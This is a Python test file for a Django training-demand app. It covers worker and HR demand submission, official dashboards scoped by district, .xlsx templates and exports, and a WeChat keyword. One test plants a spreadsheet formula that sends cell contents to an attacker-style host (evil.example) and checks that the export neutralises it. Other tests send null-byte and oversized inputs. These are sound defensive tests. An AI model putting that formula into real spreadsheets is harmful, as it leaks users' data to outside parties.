"""Training demand (提单, issue 20; contract: "Training demand (五单式…)"): the worker's
``/api/v1/me/training-demands/`` (shape, 201 (also for a repeat, answering the open demand), 400 naming the field, 401,
403), the readers' ``/api/v1/training-demands/`` with ``?group=occupation`` and
``?group=district`` (numbers, filters, scope, query budget), the services the orders app calls
(``demands_advance``, ``demands_matching``), the pages (我要培训, HR's bulk demand with its .xlsx
template, 需求汇总 with its chart and export), and the WeChat keyword.

Personas: tests/institutions_factories.World — learner A (张店区) works for enterprise A (张店区),
learner B (淄川区); HR of enterprise A; the 张店区 official; staff, editor, bureau, auditor."""

import datetime as dt
import io

import pytest
from django.contrib.auth.models import AnonymousUser
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from rest_framework.test import APIClient

from demand import selectors, services
from demand.bulk import Row
from demand.models import DemandStatus, TrainingDemand
from tests.conftest import client_for
from tests.factories import LearnerFactory, OccupationFactory
from tests.institutions_factories import EnterpriseFactory, hr_of, make_world
from vocabulary.people import District, TargetGroup
from wechat import replies
from wechat.inbound import Message
from wechat.models import WechatBinding

pytestmark = pytest.mark.django_db

MINE = "/api/v1/me/training-demands/"
DEMANDS = "/api/v1/training-demands/"
PERSONAS = [
    "learner_a",
    "learner_b",
    "staff_a",
    "hr_a",
    "official",
    "editor",
    "bureau",
    "auditor",
    "anonymous",
]
READERS = {"official", "bureau", "auditor"}


@pytest.fixture
def world():
    return make_world()


@pytest.fixture
def care():
    return OccupationFactory()  # 4-10-01-05 养老护理员


@pytest.fixture
def welder():
    return OccupationFactory(code="6-18-02-04", name="焊工")


@pytest.fixture
def housekeeper():
    return OccupationFactory(code="4-10-01-06", name="家政服务员")


def user_of(world, persona):
    if persona == "anonymous":
        return AnonymousUser()
    if persona.startswith("learner_"):
        return getattr(world, persona).user
    return getattr(world, persona)


def api_for(world, persona) -> APIClient:
    return APIClient() if persona == "anonymous" else client_for(user_of(world, persona))


def page_client(world, persona) -> Client:
    client = Client()
    if persona != "anonymous":
        client.force_login(user_of(world, persona))
    return client


def state(world, learner, occupation, note=""):
    demand, _created = services.demand_submit(
        learner_id=learner.pk, occupation_id=occupation.pk, note=note, user=learner.user
    )
    return demand


@pytest.fixture
def demands(world, care, welder):
    """Learner A (张店区) and learner B (淄川区) want 养老护理员; enterprise A (张店区) wants 10
    养老护理员 and 3 焊工; an enterprise of 淄川区 wants 4 焊工."""
    state(world, world.learner_a, care, "想考四级")
    state(world, world.learner_b, care)
    rows = selectors.occupations_by_codes(["4-10-01-05", "6-18-02-04"])
    services.enterprise_demands_submit(
        enterprise=world.enterprise_a,
        rows=[Row(1, rows["4-10-01-05"], 10, ""), Row(2, rows["6-18-02-04"], 3, "")],
        user=world.hr_a,
    )
    zichuan = EnterpriseFactory(district=District.ZICHUAN)
    services.enterprise_demands_submit(
        enterprise=zichuan, rows=[Row(1, rows["6-18-02-04"], 4, "")], user=hr_of(zichuan)
    )
    return zichuan


# --- the contract: /api/v1/me/training-demands/ ------------------------------------------------


def test_a_worker_states_a_demand_and_lists_their_own(world, care):
    api = api_for(world, "learner_a")
    response = api.post(MINE, {"occupation": "4-10-01-05", "note": "希望周末上课"}, format="json")

    assert response.status_code == 201
    body = response.json()
    assert body["occupation"] == {"code": "4-10-01-05", "name": "养老护理员"}
    assert body["status"] == "submitted"
    assert isinstance(body["id"], int)
    submitted = dt.datetime.fromisoformat(body["submitted_at"])
    assert submitted.tzinfo is not None and abs(submitted - timezone.now()) < dt.timedelta(minutes=1)
    assert (body["note"], body["head_count"], body["district"]) == ("希望周末上课", 1, "张店区")
    assert body["target_group"] == TargetGroup.ENTERPRISE_EMPLOYEE

    listed = api.get(MINE).json()
    assert set(listed) >= {"count", "next", "previous", "results"}
    assert listed["count"] == 1 and listed["results"][0]["id"] == body["id"]
    # Another worker's list does not show it.
    assert api_for(world, "learner_b").get(MINE).json()["count"] == 0


def test_an_unknown_occupation_code_is_a_400_naming_the_field(world, care):
    api = api_for(world, "learner_a")
    for value in [
        "9-99-99-99",
        "养老护理员",
        "",
        "4-10-01",
        4,
        None,
        ["4-10-01-05"],
        {"code": "x"},
        "x" * 200,
    ]:
        response = api.post(MINE, {"occupation": value}, format="json")
        assert response.status_code == 400, value
        assert response.json()["detail"].startswith("occupation: "), value
    missing = api.post(MINE, {"note": "x"}, format="json")
    assert missing.status_code == 400 and missing.json()["detail"].startswith("occupation: ")
    assert not TrainingDemand.objects.exists()


@pytest.mark.parametrize(
    "body",
    [
        {"occupation": "4-10-01-05", "note": "x" * 501},
        {"occupation": "4-10-01-05", "note": "a\x00b"},
        {"occupation": "4-10-01-05", "note": 12},
        {"occupation": "4-10-01-05\x00"},
        [],
        "text",
    ],
)
def test_hostile_bodies_are_400s_never_500s(world, care, body):
    response = api_for(world, "learner_a").post(MINE, body, format="json")
    assert response.status_code in (200, 201, 400)
    if response.status_code == 400:
        assert response.json()["detail"]


def test_a_code_typed_in_full_width_characters_is_understood(world, care):
    response = api_for(world, "learner_a").post(MINE, {"occupation": " ４－１０－０１－０５ "}, format="json")
    assert response.status_code == 201
    assert response.json()["occupation"]["code"] == "4-10-01-05"


def test_the_same_occupation_again_answers_the_open_demand_with_201(world, care):
    api = api_for(world, "learner_a")
    first = api.post(MINE, {"occupation": "4-10-01-05", "note": "第一次"}, format="json").json()
    again = api.post(MINE, {"occupation": "4-10-01-05", "note": "第二次"}, format="json")

    assert again.status_code == 201  # the contract's answer, for the worker's open demand
    assert again.json()["id"] == first["id"] and again.json()["note"] == "第一次"
    assert TrainingDemand.objects.count() == 1
    # Listed still counts as open; once matched, a new demand may be stated.
    services.demands_advance([first["id"]], DemandStatus.LISTED)
    assert api.post(MINE, {"occupation": "4-10-01-05"}, format="json").json()["id"] == first["id"]
    services.demands_advance([first["id"]], DemandStatus.MATCHED)
    renewed = api.post(MINE, {"occupation": "4-10-01-05"}, format="json")
    assert renewed.status_code == 201 and renewed.json()["id"] != first["id"]


@pytest.mark.parametrize("persona", PERSONAS)
def test_only_learners_state_and_list_their_demands(world, care, persona):
    api = api_for(world, persona)
    post = api.post(MINE, {"occupation": "4-10-01-05"}, format="json")
    listing = api.get(MINE)
    if persona.startswith("learner_"):
        assert (post.status_code, listing.status_code) == (201, 200)
    elif persona == "anonymous":
        assert (post.status_code, listing.status_code) == (401, 401)
    else:
        assert (post.status_code, listing.status_code) == (403, 403)
        assert post.json()["detail"]


# --- /api/v1/training-demands/ -----------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_the_demand_list_is_for_the_bureau_auditors_and_district_officials(world, demands, persona):
    response = api_for(world, persona).get(DEMANDS)
    expected = 200 if persona in READERS else 401 if persona == "anonymous" else 403
    assert response.status_code == expected
    grouped = api_for(world, persona).get(DEMANDS, {"group": "occupation"})
    assert grouped.status_code == expected


def test_the_list_shows_demands_paginated_without_naming_workers(world, demands):
    body = api_for(world, "bureau").get(DEMANDS).json()
    assert body["count"] == 5
    assert set(body) >= {"count", "next", "previous", "results"}
    row = next(r for r in body["results"] if r["source"] == "learner" and r["district"] == "张店区")
    assert row["occupation"] == {"code": "4-10-01-05", "name": "养老护理员"}
    assert row["enterprise"] is None and row["head_count"] == 1 and row["note"] == "想考四级"
    assert "learner" not in row and world.learner_a.real_name not in str(body)
    enterprise_rows = [r for r in body["results"] if r["source"] == "enterprise"]
    assert {r["enterprise"] for r in enterprise_rows} >= {world.enterprise_a.name}


def test_group_by_occupation_counts_demands_people_and_districts(world, demands):
    body = api_for(world, "bureau").get(DEMANDS, {"group": "occupation"}).json()
    assert body["count"] == 2
    rows = {row["occupation"]["code"]: row for row in body["results"]}
    assert rows["4-10-01-05"] == {
        "occupation": {"code": "4-10-01-05", "name": "养老护理员"},
        "demands": 3,
        "people": 12,
        "districts": sorted(["张店区", "淄川区"]),
    }
    assert rows["6-18-02-04"] == {
        "occupation": {"code": "6-18-02-04", "name": "焊工"},
        "demands": 2,
        "people": 7,
        "districts": sorted(["张店区", "淄川区"]),
    }
    # The most wanted first.
    assert [row["occupation"]["code"] for row in body["results"]] == ["4-10-01-05", "6-18-02-04"]


def test_group_by_district_counts_demands_people_and_occupations(world, demands):
    body = api_for(world, "auditor").get(DEMANDS, {"group": "district"}).json()
    rows = {row["district"]: row for row in body["results"]}
    assert rows["张店区"] == {"district": "张店区", "demands": 3, "people": 14, "occupations": 2}
    assert rows["淄川区"] == {"district": "淄川区", "demands": 2, "people": 5, "occupations": 2}


def test_a_district_official_never_sees_another_districts_demands(world, demands):
    api = api_for(world, "official")  # 张店区
    listed = api.get(DEMANDS).json()
    assert listed["count"] == 3 and {row["district"] for row in listed["results"]} == {"张店区"}
    grouped = {
        row["occupation"]["code"]: row for row in api.get(DEMANDS, {"group": "occupation"}).json()["results"]
    }
    assert grouped["4-10-01-05"]["demands"] == 2 and grouped["4-10-01-05"]["people"] == 11
    assert grouped["4-10-01-05"]["districts"] == ["张店区"]
    assert grouped["6-18-02-04"]["people"] == 3
    by_district = api.get(DEMANDS, {"group": "district"}).json()["results"]
    assert [row["district"] for row in by_district] == ["张店区"]
    # Asking for another district gives nothing, not that district's demands.
    assert api.get(DEMANDS, {"district": "淄川区"}).json()["count"] == 0
    assert api.get(DEMANDS, {"district": "淄川区", "group": "occupation"}).json()["count"] == 0


def test_the_filters_narrow_the_list_and_a_bad_filter_is_a_400_naming_it(world, demands):
    api = api_for(world, "bureau")
    assert api.get(DEMANDS, {"district": "淄川区"}).json()["count"] == 2
    assert api.get(DEMANDS, {"occupation": "6-18-02-04"}).json()["count"] == 2
    mine = TrainingDemand.objects.get(learner=world.learner_a)
    services.demands_advance([mine.pk], DemandStatus.LISTED)
    listed = api.get(DEMANDS, {"status": "listed"}).json()
    assert listed["count"] == 1 and listed["results"][0]["id"] == mine.pk
    for name, value in [
        ("group", "person"),
        ("district", "北京市"),
        ("status", "open"),
        ("occupation", "9-99-99-99"),
        ("district", "\x00"),
        ("status", "\x00"),
        ("occupation", "\x00"),
    ]:
        response = api.get(DEMANDS, {name: value})
        assert response.status_code == 400, (name, value)
        assert response.json()["detail"].startswith(f"{name}: ")
    assert api.get(DEMANDS, {"page": 99}).status_code == 404


def test_the_list_and_its_groupings_take_a_constant_number_of_queries(
    world, demands, care, django_assert_max_num_queries
):
    api = api_for(world, "bureau")
    api.get(DEMANDS)  # the token's user and roles are read once per request either way
    # Queries: token authentication, the roles, the count, the page (occupation and enterprise joined).
    for params in ({}, {"group": "occupation"}, {"group": "district"}):
        with django_assert_max_num_queries(5):
            assert api.get(DEMANDS, params).status_code == 200
    for n in range(25):
        learner = LearnerFactory(district=District.BOSHAN)
        services.demand_submit(learner_id=learner.pk, occupation_id=care.pk, note=f"{n}", user=learner.user)
    for params in ({}, {"group": "occupation"}, {"group": "district"}):
        with django_assert_max_num_queries(5):
            assert api.get(DEMANDS, params).status_code == 200


# --- the services the orders app calls ---------------------------------------------------------


def test_demands_advance_moves_forward_only(world, demands):
    ids = list(TrainingDemand.objects.values_list("pk", flat=True))
    one = ids[0]
    assert services.demands_advance([one], DemandStatus.MATCHED) == 1
    assert services.demands_advance(ids, DemandStatus.LISTED) == len(ids) - 1  # the matched one stays
    assert TrainingDemand.objects.get(pk=one).status == DemandStatus.MATCHED
    assert services.demands_advance(ids, DemandStatus.LISTED) == 0
    assert services.demands_advance([], DemandStatus.MATCHED) == 0
    for wrong in (DemandStatus.SUBMITTED, "open", ""):
        with pytest.raises(ValueError):
            services.demands_advance(ids, wrong)
    assert not TrainingDemand.objects.filter(status=DemandStatus.SUBMITTED).exists()


def test_demands_matching_selects_open_demands_by_occupation_district_and_group(world, demands, care, welder):
    assert selectors.demands_matching(occupation_id=care.pk).count() == 3
    assert selectors.demands_matching(occupation_id=care.pk, districts=[], target_groups=[]).count() == 3
    assert selectors.demands_matching(occupation_id=care.pk, districts=["淄川区"]).count() == 1
    # Learner A and B are enterprise employees (the factory); enterprise lines count as employees.
    assert selectors.demands_matching(occupation_id=care.pk, target_groups=["unemployed"]).count() == 0
    assert (
        selectors.demands_matching(occupation_id=welder.pk, target_groups=["enterprise-employee"]).count()
        == 2
    )
    matched = selectors.demands_matching(occupation_id=care.pk, districts=["张店区"])
    services.demands_advance([d.pk for d in matched], DemandStatus.MATCHED)
    assert selectors.demands_matching(occupation_id=care.pk).count() == 1


# --- 我要培训 (the worker's page, also the WeChat H5 page) ---------------------------------------


def test_the_demand_page_states_a_demand_by_code_or_name(world, care, welder):
    client = page_client(world, "learner_a")
    page = client.get("/demand/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "我要培训" in html and 'list="occupation-options"' in html and "/demand/occupations/" in html

    response = client.post("/demand/", {"occupation": "4-10-01-05 养老护理员", "note": "周末"})
    assert response.status_code == 302 and response["Location"] == "/demand/"
    assert client.post("/demand/", {"occupation": "焊工"}).status_code == 302
    assert set(TrainingDemand.objects.values_list("occupation__code", flat=True)) == {
        "4-10-01-05",
        "6-18-02-04",
    }
    html = client.get("/demand/").content.decode()
    assert "养老护理员" in html and "焊工" in html and "已提交" in html


def test_a_name_several_occupations_share_offers_them_to_choose(world, care, housekeeper):
    client = page_client(world, "learner_a")
    response = client.post("/demand/", {"occupation": "4-10-01"})
    assert response.status_code == 400
    html = response.content.decode()
    assert (
        "<select" in html
        and 'value="4-10-01-05 养老护理员"' in html
        and 'value="4-10-01-06 家政服务员"' in html
    )
    assert client.post("/demand/", {"occupation": "宇航员"}).status_code == 400
    assert not TrainingDemand.objects.exists()


def test_the_occupation_search_answers_codes_and_names(world, care, welder):
    client = page_client(world, "learner_a")
    assert client.get("/demand/occupations/", {"q": "焊"}).json() == {
        "results": [{"code": "6-18-02-04", "name": "焊工"}]
    }
    assert client.get("/demand/occupations/", {"q": "4-10"}).json()["results"][0]["code"] == "4-10-01-05"
    assert client.get("/demand/occupations/", {"q": ""}).json() == {"results": []}
    assert client.get("/demand/occupations/", {"q": "\x00"}).status_code == 200
    assert Client().get("/demand/occupations/?q=x").status_code == 302


@pytest.mark.parametrize("persona", PERSONAS)
def test_the_demand_page_is_for_learners(world, persona):
    response = page_client(world, persona).get("/demand/")
    if persona.startswith("learner_"):
        assert response.status_code == 200
    elif persona == "anonymous":
        assert response.status_code == 302 and response["Location"] == "/accounts/login/?next=/demand/"
    else:
        assert response.status_code == 403


# --- 培训需求 (enterprise HR's bulk demand) -------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_the_enterprise_page_and_template_are_for_hr(world, persona):
    client = page_client(world, persona)
    page, template = client.get("/demand/enterprise/"), client.get("/demand/enterprise/template.xlsx")
    if persona == "hr_a":
        assert (page.status_code, template.status_code) == (200, 200)
    elif persona == "anonymous":
        assert page.status_code == 302 and template.status_code == 302
    else:
        assert (page.status_code, template.status_code) == (403, 403)


def test_hr_types_lines_and_they_are_written_for_their_enterprise(world, care, welder):
    client = page_client(world, "hr_a")
    text = "职业代码, 人数, 备注\n4-10-01-05, 12, 希望周末上课，地点在厂区\n\n6-18-02-04\t3\n"
    response = client.post("/demand/enterprise/", {"lines": text})
    assert response.status_code == 302
    rows = {d.occupation.code: d for d in TrainingDemand.objects.select_related("occupation")}
    assert rows["4-10-01-05"].head_count == 12 and rows["4-10-01-05"].note == "希望周末上课，地点在厂区"
    assert rows["6-18-02-04"].head_count == 3
    assert all(d.enterprise_id == world.enterprise_a.pk and d.district == "张店区" for d in rows.values())
    assert all(
        d.learner_id is None and d.target_group == "" and d.submitted_by == world.hr_a for d in rows.values()
    )
    html = client.get("/demand/enterprise/").content.decode()
    assert "焊工" in html and "养老护理员" in html


def test_a_bad_line_refuses_the_whole_list_with_a_message_per_line(world, care, welder):
    client = page_client(world, "hr_a")
    text = "4-10-01-05, 12\n9-99-99-99, 3\n6-18-02-04, 0\n4-10-01-05, 2\n6-18-02-04, 十\n焊工, 2"
    response = client.post("/demand/enterprise/", {"lines": text})
    assert response.status_code == 400
    html = response.content.decode()
    for line in (2, 3, 4, 5, 6):
        assert f"第 {line} 行：" in html
    assert "第 1 行：" not in html and "与第 1 行重复" in html
    assert not TrainingDemand.objects.exists()


def test_the_xlsx_template_round_trip(world, care, welder):
    client = page_client(world, "hr_a")
    download = client.get("/demand/enterprise/template.xlsx")
    assert download["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(download.content))
    sheet = workbook.worksheets[0]
    assert [cell.value for cell in sheet[1]] == ["职业代码", "职业名称", "人数", "备注"]
    assert sheet.max_row == 1  # nothing to delete before filling it in
    codes = {row[0] for row in workbook["职业代码"].iter_rows(min_row=2, values_only=True)}
    assert {"4-10-01-05", "6-18-02-04"} <= codes
    sheet.append(["4-10-01-05", "养老护理员", 12, "周末班"])
    sheet.append([None, None, None, None])
    sheet.append(["6-18-02-04", "", 3.0, None])
    filled = io.BytesIO()
    workbook.save(filled)
    filled.seek(0)
    filled.name = "需求.xlsx"

    response = client.post("/demand/enterprise/", {"file": filled})
    assert response.status_code == 302
    got = dict(TrainingDemand.objects.values_list("occupation__code", "head_count"))
    assert got == {"4-10-01-05": 12, "6-18-02-04": 3}


def test_an_xlsx_with_a_bad_row_writes_nothing(world, care, welder):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["职业代码", "职业名称", "人数", "备注"])
    sheet.append(["4-10-01-05", "养老护理员", 12, ""])
    sheet.append(["6-18-02-04", "焊工", -1, ""])
    sheet.append(["1-23", "", 2, "x" * 501])
    content = io.BytesIO()
    workbook.save(content)
    content.seek(0)
    content.name = "需求.xlsx"
    response = page_client(world, "hr_a").post("/demand/enterprise/", {"file": content})
    assert response.status_code == 400
    html = response.content.decode()
    assert "第 3 行：" in html and "第 4 行：" in html and "第 2 行：" not in html
    assert not TrainingDemand.objects.exists()


def test_an_unreadable_file_or_no_input_is_refused(world, care):
    client = page_client(world, "hr_a")
    garbage = io.BytesIO(b"PK\x03\x04 not really a workbook")
    garbage.name = "x.xlsx"
    assert client.post("/demand/enterprise/", {"file": garbage}).status_code == 400
    assert client.post("/demand/enterprise/", {"lines": "   "}).status_code == 400
    headerless = io.BytesIO("甲,乙\n1,2\n".encode())
    headerless.name = "x.csv"
    assert client.post("/demand/enterprise/", {"file": headerless}).status_code == 400
    assert not TrainingDemand.objects.exists()


def test_hr_sees_only_their_enterprises_demands(world, demands):
    html = page_client(world, "hr_a").get("/demand/enterprise/").content.decode()
    assert html.count('<td class="num">') == 2  # 养老护理员 10 and 焊工 3, not 淄川's 4
    assert "想考四级" not in html  # a worker's own demand is not the enterprise's


# --- 需求汇总 (the readers' page) and its export --------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_the_overview_page_is_for_readers(world, demands, persona):
    client = page_client(world, persona)
    page, export = client.get("/demand/overview/"), client.get("/demand/overview/export.xlsx")
    if persona in READERS:
        assert (page.status_code, export.status_code) == (200, 200)
    elif persona == "anonymous":
        assert page.status_code == 302 and export.status_code == 302
    else:
        assert (page.status_code, export.status_code) == (403, 403)


def test_the_overview_shows_counts_and_a_chart_in_the_readers_scope(world, demands):
    html = page_client(world, "bureau").get("/demand/overview/").content.decode()
    assert '<svg class="chart"' in html and "养老护理员" in html
    assert 'id="figure-people">19<' in html
    by_district = page_client(world, "bureau").get("/demand/overview/?group=district").content.decode()
    assert '<th scope="row">淄川区</th>' in by_district

    official = page_client(world, "official")
    html = official.get("/demand/overview/?group=district&district=淄川区").content.decode()
    assert '<th scope="row">张店区</th>' in html and "淄川区</th>" not in html
    assert 'id="figure-people">14<' in html
    for bad in ("?group=x", "?status=%00", "?district=%00", "?page=abc"):
        assert official.get("/demand/overview/" + bad).status_code == 200


def test_the_export_neutralises_formula_like_cells(world, care):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
    state(world, world.learner_a, care, formula)
    response = page_client(world, "bureau").get("/demand/overview/export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    notes = [row[7] for row in sheet.iter_rows(min_row=2)]
    assert notes[0].value == "'" + formula and notes[0].data_type == "s"
    # The official's export holds their district only.
    state(world, world.learner_b, care, "淄川")
    official = page_client(world, "official").get("/demand/overview/export.xlsx")
    rows = list(
        load_workbook(io.BytesIO(b"".join(official.streaming_content)))
        .worksheets[0]
        .iter_rows(min_row=2, values_only=True)
    )
    assert [row[3] for row in rows] == ["张店区"]


def test_the_template_has_no_formula_and_its_cells_are_neutralised(world, care):
    content = page_client(world, "hr_a").get("/demand/enterprise/template.xlsx").content
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value


# --- WeChat ---------------------------------------------------------------------------------


def test_the_wechat_keyword_answers_with_the_demand_page(world, settings):
    settings.SITE_URL = "https://px.zibo.example"
    WechatBinding.objects.create(openid="o-demand", learner=world.learner_a)
    for word in ("我要培训", "培训需求"):
        text = replies.answer(Message("gh_zibo", "o-demand", 0, "text", {"Content": word}))
        assert "https://px.zibo.example/wechat/oauth/?next=%2Fdemand%2F" in text
